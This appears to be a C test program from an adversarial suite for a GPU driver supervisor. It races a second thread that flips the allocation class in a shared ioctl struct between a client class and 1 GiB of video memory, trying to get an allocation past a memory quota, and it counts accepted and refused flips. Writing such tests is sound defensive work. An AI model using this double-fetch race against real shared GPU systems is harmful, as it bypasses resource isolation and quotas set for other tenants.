/* SPDX-License-Identifier: MIT */
/*
 * client_flip - rewriting a continued client allocation into another one.
 *
 * The supervisor cannot perform client allocations (the client would carry
 * its pid), so it continues them, and the kernel then copies the struct
 * again. A second thread flips hClass between a client class (0) and video
 * memory (0x40, 1 GiB, under an existing client's device) while this thread
 * issues the call, on the control file that holds that client and on a
 * fresh one. With 768 MiB already held under --mem 1g, any flipped
 * allocation that slips through takes the driver past the quota.
 * Prints flip_ok= flip_refused= and SUMMARY.
 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "adv.h"

#define TRIES 3000
#define HOLD_CHUNKS 3
#define H_FLIP0 0x5c00e000u

static volatile struct nvos64 call;
static struct nv_memory_allocation_params gib;
static atomic_bool stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		call.h_class = NV01_ROOT;
		call.h_class = NV01_MEMORY_LOCAL_USER;
	}
	return NULL;
}

int main(void)
{
	struct rmc_session s;
	struct adv_tally t = { 0 };
	int fresh = rmc_open_ctl(), ok = 0, refused = 0;
	pthread_t th;

	adv_session_or_die(&s, -1, "client_flip");
	for (int i = 0; i < HOLD_CHUNKS; i++)
		adv_count(&t, adv_alloc_rm(&s, NULL, rmc_next_handle(&s), ADV_CHUNK));
	rmc_fill_vidmem_params(&gib, s.client, 4 * ADV_CHUNK);
	call.h_root = s.client;
	call.h_object_parent = s.device;
	call.h_class = NV01_MEMORY_LOCAL_USER;
	call.p_alloc_parms = (uintptr_t)&gib;
	pthread_create(&th, NULL, flipper, NULL);
	for (int i = 0; i < TRIES; i++) {
		int fd = (i & 1) ? fresh : s.fd;
		call.h_object_new = H_FLIP0 + (nv_handle_t)i;
		call.status = 0;
		if (syscall(SYS_ioctl, fd, NV_IOC_WORD(NV_ESC_RM_ALLOC, sizeof(call)), (void *)&call) < 0)
			continue;
		if (call.status == NV_OK)
			ok++;
		else
			refused++;
	}
	atomic_store(&stop, true);
	pthread_join(th, NULL);
	printf("flip_ok=%d flip_refused=%d\n", ok, refused);
	adv_print_summary(&t);
	return 0;
}
